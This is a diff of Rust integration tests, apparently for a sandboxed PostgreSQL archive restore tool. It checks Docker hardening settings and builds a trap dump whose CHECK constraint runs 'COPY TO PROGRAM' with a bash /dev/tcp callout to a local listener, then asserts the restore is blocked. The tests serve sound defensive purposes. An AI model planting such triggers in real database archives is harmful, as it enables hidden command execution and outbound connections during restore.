@@ -101,7 +101,7 @@ fn docker_f28_whatever_runs_where_an_archive_is_parsed_has_no_network_no_rights_
     let site = stage.world.sites.open(&engines::find("postgres").unwrap().site(&store), "verify").unwrap();
     let name = site.identity().name;
     let seen = |what: &str| docker(&["inspect", "-f", &format!("{{{{json {what}}}}}"), &name]).unwrap();
-    for (what, wanted) in [
+    let wanted = [
         (".HostConfig.NetworkMode", "\"none\""),
         (".HostConfig.CapDrop", "[\"ALL\"]"),
         (".HostConfig.CapAdd", "null"),
@@ -109,9 +109,10 @@ fn docker_f28_whatever_runs_where_an_archive_is_parsed_has_no_network_no_rights_
         (".HostConfig.SecurityOpt", "[\"no-new-privileges\"]"),
         (".HostConfig.PidsLimit", "1024"),
         (".Config.User", "\"postgres\""),
-    ] {
-        assert_eq!(seen(what), wanted, "{what}");
-    }
+    ];
+    let wrong = wanted.iter().filter(|(what, wanted)| seen(what) != *wanted);
+    let wrong: Vec<_> = wrong.map(|(what, _)| format!("{what} is {}", seen(what))).collect();
+    assert_eq!(wrong, Vec::<String>::new());
     assert!(seen(".HostConfig.Memory").parse::<u64>().unwrap() > 0);
     assert!(!labelled(&stage.world.run).iter().any(|thing| thing.starts_with("network")));
     // The kernel's own word, from inside.
@@ -139,34 +140,25 @@ fn docker_f27_an_archive_whose_table_calls_out_reaches_nobody() {
     let test = "docker_f27_an_archive_whose_table_calls_out_reaches_nobody";
     let Some(stage) = Stage::open(test, 17, &[]) else { return };
     let (port, visits) = listening();
-    let call = format!("bash -c 'exec 3<>/dev/tcp/{}/{port}'", host());
-    let trap = format!(
-        "CREATE FUNCTION public.f() RETURNS boolean LANGUAGE plpgsql AS $f$BEGIN EXECUTE \
-                        'COPY (SELECT 1) TO PROGRAM ' || quote_literal({call}); RETURN true; END$f$;",
-        call = quoted(&call)
+    // A check that runs a program wherever rows are loaded but where it was made.
+    let call = quoted(&format!("bash -c 'exec 3<>/dev/tcp/{}/{port}'", host()));
+    let script = format!(
+        "CREATE FUNCTION public.f() RETURNS boolean LANGUAGE plpgsql AS $f$BEGIN \
+         IF current_setting('trap.off', true) = 'yes' THEN RETURN true; END IF; \
+         EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal({call}); RETURN true; END$f$; \
+         CREATE TABLE public.trapped (a integer CHECK (public.f())); SET trap.off = 'yes'; \
+         INSERT INTO public.trapped VALUES (1); \
+         ALTER FUNCTION public.f() OWNER TO recyclic; ALTER TABLE public.trapped OWNER TO recyclic"
     );
-    // In a custom archive made by the shop's own superuser: the trap is a check that runs while the rows are loaded.
     let (_, archive) = stage.original(|site, _| {
-        let psql = |sql: &str| {
-            drop(output(
-                site,
-                "psql",
-                &["-X", "-q", "-v", "ON_ERROR_STOP=1", "-U", "xtask_owner", "-d", "shop", "-c", sql],
-            ))
-        };
-        psql(&trap);
-        psql("CREATE TABLE public.trapped (a integer)");
-        psql("INSERT INTO public.trapped VALUES (1)");
-        psql("ALTER TABLE public.trapped ADD CHECK (public.f()) NOT VALID");
+        let as_owner = ["-X", "-q", "-v", "ON_ERROR_STOP=1", "-U", "xtask_owner", "-d", "shop", "-c", &script];
+        output(site, "psql", &as_owner);
         dumped(site, &["--format=custom"])
     });
     let path = stage.rig.file("trapped.dump", &archive);
     let error = stage.adopt(&Stage::args(&path)).expect_err("the trap was not sprung: it proves nothing");
     let why = format!("{error:#}");
-    assert!(
-        why.contains("permission denied to COPY to or from an external program") || why.contains("does not restore"),
-        "{why}"
-    );
+    assert!(why.contains("permission denied to COPY to or from an external program"), "{why}");
     nobody_came(port, &visits);
     assert_eq!(labelled(&stage.world.run), Vec::<String>::new());
 }
